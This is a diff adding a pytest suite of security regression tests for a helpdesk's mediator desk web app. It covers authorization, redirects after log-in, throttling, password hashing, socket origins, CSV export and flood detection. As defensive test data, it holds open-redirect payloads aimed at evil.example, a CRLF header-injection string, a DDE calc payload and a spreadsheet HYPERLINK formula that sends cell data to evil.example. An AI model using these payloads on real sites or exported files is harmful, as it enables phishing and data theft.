@@ -1,0 +1,496 @@
+"""Issue 17, the desk's side, tried as an attacker would: each test failed before the fix.
+
+The web app runs in-process (aiohttp's test client) on a fresh data folder:
+no Rasa, no action server. The attackers: a curious mediator, someone who
+sends a mediator a link, someone guessing a password, another site's page
+opening the desk's sockets, a question written as a spreadsheet formula, and
+a flood of fake emergencies.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import os
+import re
+import secrets
+from datetime import timedelta
+
+import pytest
+from aiohttp import WSServerHandshakeError
+from aiohttp.test_utils import TestClient, TestServer
+
+from connectors.desk import __main__ as cli
+from connectors.desk import app as desk
+from connectors.desk.auth import hash_password, verify_password
+from connectors.desk.connector import DeskConnector
+from connectors.desk.dashboard import spreadsheet_safe
+from connectors.desk.store import Store, messages, now
+from connectors.web import create_app
+from knowledge.settings import load_settings
+from tests.conftest import free_port
+
+PASSWORD = "a-long-test-password"
+USERS = {
+    "amal": ("mediator", "ar fr it"),
+    "bilal": ("mediator", "ar it"),
+    "olena": ("mediator", "uk it"),
+    "olga": ("operator", "it"),
+    "ada": ("admin", "it"),
+}
+# Hashed once: Argon2id is slow on purpose.
+PASSWORD_HASH = hash_password(PASSWORD)
+VICTIM = "whatsapp:+393331234567"
+_CSRF_FIELD = re.compile(r'name="csrf" value="([^"]+)"')
+
+
+def _settings(tmp_path, **extra: str):
+    # Where the shared taxonomy and models are, as the rest of the suite is told.
+    shared = {
+        k: v for k, v in os.environ.items() if k in ("HELPDESK_TAXONOMY", "HELPDESK_MODELS_DIR")
+    }
+    return load_settings(
+        environ={
+            **shared,
+            "HELPDESK_DATA_DIR": str(tmp_path / "data"),
+            "HELPDESK_DESK_HOURS": "always",
+            "HELPDESK_RASA_URL": f"http://127.0.0.1:{free_port()}",
+            "HELPDESK_ACTION_SERVER_URL": f"http://127.0.0.1:{free_port()}",
+            **extra,
+        }
+    )
+
+
+@pytest.fixture
+def settings(tmp_path):
+    return _settings(tmp_path)
+
+
+@pytest.fixture
+def store(settings) -> Store:
+    store = Store.open(settings.desk.database_url)
+    for username, (role, languages) in USERS.items():
+        store.add_user(username, PASSWORD_HASH, role, languages)
+    return store
+
+
+@pytest.fixture
+async def site(settings, store):
+    """site() -> a new client (its own cookies) of one running web app."""
+    server = TestServer(create_app(settings))
+    clients: list[TestClient] = []
+
+    async def new_client() -> TestClient:
+        client = TestClient(server)
+        await client.start_server()
+        clients.append(client)
+        return client
+
+    yield new_client
+    for client in clients:
+        await client.close()
+
+
+async def login(
+    client: TestClient, username: str, password: str = PASSWORD, next: str = "", **headers: str
+) -> object:
+    html = await (await client.get("/login")).text()
+    token = _CSRF_FIELD.search(html).group(1)
+    form = {"username": username, "password": password, "csrf": token, "next": next}
+    if client.app[desk.DESK_SETTINGS_KEY].desk.behind_proxy:
+        # The client's jar keeps Secure cookies for https only: send it by hand.
+        headers["Cookie"] = f"__Host-helpdesk_login_csrf={token}"
+    return await client.post("/login", data=form, allow_redirects=False, headers=headers)
+
+
+async def logged_in(site, username: str) -> TestClient:
+    client = await site()
+    assert (await login(client, username)).status == 303
+    return client
+
+
+def open_handoff(store: Store, sender: str, language: str = "ar", urgent: bool = False, at=None):
+    with store.transaction() as db:
+        return store.open_handoff(
+            db,
+            sender_id=sender,
+            channel="socketio",
+            language=language,
+            topic="residence_permit",
+            reason="emergency" if urgent else "request",
+            urgent=urgent,
+            at=at,
+        )
+
+
+def say(store: Store, sender: str, handoff_id: int | None, text: str, author="migrant") -> None:
+    with store.transaction() as db:
+        store.add_message(db, sender_id=sender, handoff_id=handoff_id, author=author, text=text)
+
+
+# -- 1. desk authorization ------------------------------------------------------------------
+
+
+async def test_a_mediator_cannot_read_a_handoff_claimed_by_another(site, store):
+    # Written before the hand-off (as the old desk kept it): never part of a transcript.
+    say(store, VICTIM, None, "my husband reads my phone")
+    handoff_id = open_handoff(store, VICTIM)
+    say(store, VICTIM, handoff_id, "I need to talk to someone")
+    say(store, VICTIM, handoff_id, "A mediator will answer soon.", author="bot")
+    amal, bilal, ada = [await logged_in(site, name) for name in ("amal", "bilal", "ada")]
+    assert store.claim(handoff_id, store.credentials("amal")[0].id)
+
+    response = await bilal.get(f"/desk/api/handoffs/{handoff_id}")
+    assert response.status == 403
+    assert "my husband" not in await response.text()
+
+    for reader in (amal, ada):
+        response = await reader.get(f"/desk/api/handoffs/{handoff_id}")
+        assert response.status == 200
+        shown = await response.json()
+        assert [m["text"] for m in shown["transcript"]] == [
+            "I need to talk to someone",
+            "A mediator will answer soon.",
+        ]
+        assert VICTIM not in await response.text() and "sender_id" not in json.dumps(shown)
+
+    # Who looked is on record, for admins only (page API and CLI).
+    response = await ada.get(f"/desk/api/views?handoff={handoff_id}")
+    assert response.status == 200
+    viewers = [view["username"] for view in (await response.json())["views"]]
+    assert sorted(viewers) == ["ada", "amal"]
+    assert (await amal.get("/desk/api/views")).status == 403
+    assert [v["username"] for v in store.views(handoff_id)] == viewers
+
+
+async def test_a_waiting_handoff_shows_only_a_redacted_preview(site, store):
+    handoff_id = open_handoff(store, VICTIM)
+    say(store, VICTIM, handoff_id, "call me on +39 333 123 4567 please")
+    say(store, VICTIM, handoff_id, "second line")
+    say(store, VICTIM, handoff_id, "third line")
+    say(store, VICTIM, handoff_id, "fourth line, not in the preview")
+    amal = await logged_in(site, "amal")
+
+    response = await amal.get(f"/desk/api/handoffs/{handoff_id}")
+    assert response.status == 200
+    shown = await response.json()
+    assert shown["transcript"] is None
+    assert shown["preview"] == ["call me on [phone] please", "second line", "third line"]
+    queue = await (await amal.get("/desk/api/queue")).json()
+    assert queue["handoffs"][0]["preview"] == shown["preview"]
+    for body in (shown, queue):
+        assert VICTIM not in json.dumps(body) and "sender_id" not in json.dumps(body)
+    # A preview is not a transcript view.
+    assert store.views(handoff_id) == []
+
+
+async def test_the_queue_holds_only_the_mediators_languages(site, store):
+    arabic = open_handoff(store, "p-ar", language="ar")
+    ukrainian = open_handoff(store, "p-uk", language="uk")
+    # No mediator speaks Tamil: everyone sees it (with machine translation), none is lost.
+    tamil = open_handoff(store, "p-ta", language="ta")
+    amal, olena, ada = [await logged_in(site, name) for name in ("amal", "olena", "ada")]
+
+    seen = [h["id"] for h in (await (await amal.get("/desk/api/queue")).json())["handoffs"]]
+    assert seen == [arabic, tamil]
+    assert (await amal.get(f"/desk/api/handoffs/{ukrainian}")).status == 403
+    seen = [h["id"] for h in (await (await olena.get("/desk/api/queue")).json())["handoffs"]]
+    assert seen == [ukrainian, tamil]
+    seen = [h["id"] for h in (await (await ada.get("/desk/api/queue")).json())["handoffs"]]
+    assert seen == [arabic, ukrainian, tamil]
+
+
+def _event(sender: str, kind: str, **fields) -> dict:
+    return {"sender_id": sender, "event": kind, "timestamp": now().timestamp(), **fields}
+
+
+def test_the_desk_keeps_no_conversation_that_never_reached_a_handoff(settings):
+    connector = DeskConnector(settings)
+    request = {"reason": "request", "language": "it", "channel": "socketio"}
+    events = [
+        _event("never", "user", text="dove rinnovo il permesso?"),
+        _event("never", "bot", text="In questura."),
+        _event("never", "slot", name="answer_record", value={"question": "dove?"}),
+        _event("asks", "user", text="una domanda di prima"),
+        _event("asks", "bot", text="Una risposta di prima."),
+        _event("asks", "user", text="voglio parlare con una persona"),
+        _event("asks", "bot", text="Ti metto in contatto con un mediatore."),
+        _event("asks", "slot", name="handoff_request", value=request),
+        _event("asks", "user", text="ci siete?"),
+    ]
+    connector._apply(list(enumerate(events, 1)), move_cursor=False)
+    with connector.store.engine.connect() as db:
+        kept = db.execute(messages.select().order_by(messages.c.id)).all()
+    assert [(m.sender_id, m.author, m.text) for m in kept] == [
+        ("asks", "migrant", "voglio parlare con una persona"),
+        ("asks", "bot", "Ti metto in contatto con un mediatore."),
+        ("asks", "migrant", "ci siete?"),
+    ]
+    assert all(m.handoff_id is not None for m in kept)
+    # The dashboard still counts the question of the conversation without a hand-off.
+    from connectors.desk.figures import Figures
+
+    figures = Figures.compute(connector.store, now() - timedelta(days=1), now() + timedelta(1))
+    assert figures.questions == 1 and figures.handoffs == 1
+
+
+def test_admins_forget_a_person_by_the_handoff_number(monkeypatch, tmp_path, capsys):
+    monkeypatch.setenv("HELPDESK_DATA_DIR", str(tmp_path))
+    cli.get_settings.cache_clear()
+    try:
+        store = Store.open(f"sqlite:///{tmp_path / 'desk.db'}")
+        handoff_id = open_handoff(store, VICTIM)
+        say(store, VICTIM, handoff_id, "please delete me")
+        other = open_handoff(store, "someone-else")
+        cli.main(["forget", "--handoff", str(handoff_id)])
+        out = capsys.readouterr().out
+        assert f"hand-off {handoff_id}" in out and VICTIM not in out
+        assert store.handoff(handoff_id) is None and store.transcript(VICTIM) == []
+        assert store.handoff(other) is not None
+        with pytest.raises(SystemExit, match="No hand-off 999"):
+            cli.main(["forget", "--handoff", "999"])
+    finally:
+        cli.get_settings.cache_clear()
+
+
+# -- 2. no open redirect after log-in ------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "/\\evil.example/x",  # the review's request
+        "\\evil.example/x",
+        "/\\/evil.example",
+        "//evil.example/x",
+        "https://evil.example/x",
+        "/%5cevil.example/x",
+        "/%5Cevil.example/x",
+        "/%2f%2fevil.example",
+        "/%2F/evil.example",
+        "/%255cevil.example",
+        "/\t/evil.example",
+        "/%09/evil.example",
+        "/desk\r\nLocation: https://evil.example",
+        "javascript:alert(1)",
+    ],
+)
+async def test_next_after_login_stays_on_this_site(site, target):
+    client = await site()
+    response = await login(client, "amal", next=target)
+    assert response.status == 303
+    assert response.headers["Location"] == "/desk"
+
+
+async def test_next_after_login_keeps_a_path_of_this_site(site):
+    client = await site()
+    response = await login(client, "ada", next="/desk?x=1")
+    assert response.headers["Location"] == "/desk"
+
+
+# -- 3. log-in throttling --------------------------------------------------------------------
+
+
+async def test_twelve_wrong_passwords_then_the_right_one_gets_429(site):
+    client = await site()
+    statuses = [(await login(client, "amal", "wrong-password-x")).status for _ in range(12)]
+    assert statuses == [401] * 10 + [429] * 2
+    response = await login(client, "amal")
+    assert response.status == 429
+    assert response.headers["Retry-After"] == "900"
+    page = await response.text()
+    assert "Too many wrong log-ins" in page and "15 minutes" in page
+    assert not any("helpdesk_session" in c for c in response.headers.getall("Set-Cookie", []))
+
+
+async def test_failures_from_one_address_lock_that_address_not_the_user(tmp_path):
+    settings = _settings(tmp_path, HELPDESK_BEHIND_PROXY="true")
+    store = Store.open(settings.desk.database_url)
+    store.add_user("amal", PASSWORD_HASH, "mediator", "ar")
+    async with TestClient(TestServer(create_app(settings))) as client:
+        guesser = {"X-Real-IP": "203.0.113.9"}
+        for n in range(10):
+            assert (await login(client, f"user{n}", "x" * 12, **guesser)).status == 401
+        assert (await login(client, "amal", **guesser)).status == 429
+        # The same user from another address: not locked (they never failed).
+        other = {"X-Real-IP": "198.51.100.7"}
+        assert (await login(client, "amal", **other)).status == 303
+
+
+# -- 4. passwords ----------------------------------------------------------------------------
+
+
+def _old_scrypt_hash(password: str) -> str:
+    salt = secrets.token_bytes(16)
+    digest = hashlib.scrypt(password.encode(), salt=salt, n=2**14, r=8, p=1)
+    b64 = lambda data: base64.b64encode(data).decode()  # noqa: E731
+    return f"scrypt${2**14}$8$1${b64(salt)}${b64(digest)}"
+
+
+def test_passwords_are_argon2id():
+    stored = hash_password("correct horse battery")
+    assert stored.startswith("$argon2id$") and "correct" not in stored
+    assert verify_password("correct horse battery", stored)
+    assert not verify_password("correct horse batterY", stored)
+    assert not verify_password("anything", "not-a-hash")
+
+
+async def test_an_old_scrypt_hash_logs_in_and_is_rehashed(site, store):
+    old = _old_scrypt_hash("an-old-password-1")
+    store.add_user("oldie", old, "mediator", "it")
+    client = await site()
+    assert (await login(client, "oldie", "not-the-password")).status == 401
+    assert store.credentials("oldie")[1] == old
+    assert (await login(client, "oldie", "an-old-password-1")).status == 303
+    stored = store.credentials("oldie")[1]
+    assert stored.startswith("$argon2id$") and verify_password("an-old-password-1", stored)
+    # And it still logs in with the new hash.
+    assert (await login(await site(), "oldie", "an-old-password-1")).status == 303
+
+
+def test_hashing_is_bounded(settings):
+    app = create_app(settings)
+    assert app[desk.HASHING_KEY]._value == desk.HASHING_AT_ONCE <= 2
+
+
+# -- 5. live sockets ---------------------------------------------------------------------------
+
+
+async def test_desk_sockets_refuse_another_sites_page(site):
+    ada, olga = await logged_in(site, "ada"), await logged_in(site, "olga")
+    for client, path in ((ada, "/desk/ws"), (olga, "/assist/ws")):
+        with pytest.raises(WSServerHandshakeError) as refused:
+            await client.ws_connect(path, headers={"Origin": "http://evil.example"})
+        assert refused.value.status == 403
+        here = f"http://{client.host}:{client.port}"
+        socket = await client.ws_connect(path, headers={"Origin": here})
+        await socket.close()
+
+
+async def test_operators_get_notices_only_about_what_they_opened(site, store, settings):
+    olga = await logged_in(site, "olga")
+    olga_id = store.credentials("olga")[0].id
+    theirs = open_handoff(store, "counter-1", language="it")
+    with store.transaction() as db:
+        db.execute(
+            store_handoffs()
+            .update()
+            .where(store_handoffs().c.id == theirs)
+            .values(opened_by=olga_id)
+        )
+    others = open_handoff(store, VICTIM, language="it")
+    socket = await olga.ws_connect("/assist/ws")
+    connector = olga.app[desk.CONNECTOR_KEY]
+    await connector.notify({"type": "message", "handoff_id": others})
+    await connector.notify({"type": "queue"})
+    await connector.notify({"type": "message", "handoff_id": theirs})
+    got = await socket.receive_json(timeout=5)
+    assert got == {"type": "message", "handoff_id": theirs}
+    await socket.close()
+
+
+def store_handoffs():
+    from connectors.desk.store import handoffs
+
+    return handoffs
+
+
+async def test_pages_may_connect_only_to_their_own_site(site):
+    client = await site()
+    policy = (await client.get("/login")).headers["Content-Security-Policy"]
+    assert "connect-src 'self';" in policy and "ws:" not in policy
+
+
+# -- 6. CSV formula injection ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_cells_that_look_like_formulas_are_plain_text(start):
+    assert spreadsheet_safe(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"
+    assert spreadsheet_safe("permesso " + start) == "permesso " + start
+
+
+async def test_dashboard_csv_neutralises_a_formula_question(site, store):
+    attack = '=HYPERLINK("https://evil.example/?leak="&A1,"open report")'
+    with store.transaction() as db:
+        for n in range(4):
+            store.add_question(
+                db,
+                sender_id=f"csv-{n}",
+                asked_at=now(),
+                source="conversation",
+                language="en",
+                confident=False,
+                text=attack,
+            )
+    ada = await logged_in(site, "ada")
+    response = await ada.get("/dashboard.csv")
+    assert response.status == 200
+    csv_text = await response.text()
+    assert "'=hyperlink" in csv_text and ',"=hyperlink' not in csv_text
+
+
+# -- 7. a flood of urgent hand-offs -----------------------------------------------------------
+
+
+def test_a_burst_of_urgent_handoffs_is_grouped_and_flagged(store):
+    start = now() - timedelta(minutes=30)
+    real = open_handoff(store, "real-person", urgent=True, at=start)
+    flood = [
+        open_handoff(
+            store, f"flood-{n}", urgent=True, at=start + timedelta(minutes=10, seconds=9 * n)
+        )
+        for n in range(14)
+    ]
+    later = open_handoff(store, "real-later", urgent=True, at=start + timedelta(minutes=25))
+    calm = open_handoff(store, "calm", at=start + timedelta(minutes=1))
+
+    queue = store.queue()
+    assert [h["id"] for h in queue] == [real, later, *flood, calm]
+    assert queue[0]["flood"] is None and queue[1]["flood"] is None and queue[-1]["flood"] is None
+    notes = {h["flood"]["text"] for h in queue[2:-1]}
+    assert notes == {"possible flood: 14 urgent requests in 2 minutes"}
+
+
+def test_a_few_urgent_handoffs_close_together_are_not_a_flood(store):
+    start = now() - timedelta(minutes=5)
+    ids = [
+        open_handoff(store, f"u-{n}", urgent=True, at=start + timedelta(seconds=n))
+        for n in range(5)
+    ]
+    assert [h["id"] for h in store.queue()] == ids
+    assert all(h["flood"] is None for h in store.queue())
+
+
+# -- 9. cookies over HTTPS ---------------------------------------------------------------------
+
+
+async def test_cookies_are_secure_with_the_host_prefix_behind_the_proxy(tmp_path):
+    settings = _settings(tmp_path, HELPDESK_BEHIND_PROXY="true")
+    Store.open(settings.desk.database_url).add_user("amal", PASSWORD_HASH, "mediator", "ar")
+    async with TestClient(TestServer(create_app(settings))) as client:
+        page = await client.get("/login")
+        login_cookie = page.headers["Set-Cookie"]
+        assert login_cookie.startswith("__Host-helpdesk_login_csrf=") and "Secure" in login_cookie
+        token = _CSRF_FIELD.search(await page.text()).group(1)
+        response = await client.post(
+            "/login",
+            data={"username": "amal", "password": PASSWORD, "csrf": token, "next": ""},
+            headers={"Cookie": f"__Host-helpdesk_login_csrf={token}"},
+            allow_redirects=False,
+        )
+        assert response.status == 303
+        cookies = response.headers.getall("Set-Cookie")
+        session = next(c for c in cookies if c.startswith("__Host-helpdesk_session="))
+        assert "Secure" in session and "HttpOnly" in session and "Path=/" in session
+        assert "SameSite=Strict" in session and "Domain" not in session
+
+
+async def test_cookies_on_plain_localhost_are_not_secure(site):
+    client = await site()
+    response = await login(client, "amal")
+    session = next(
+        c for c in response.headers.getall("Set-Cookie") if c.startswith("helpdesk_session=")
+    )
+    assert "Secure" not in session and "HttpOnly" in session
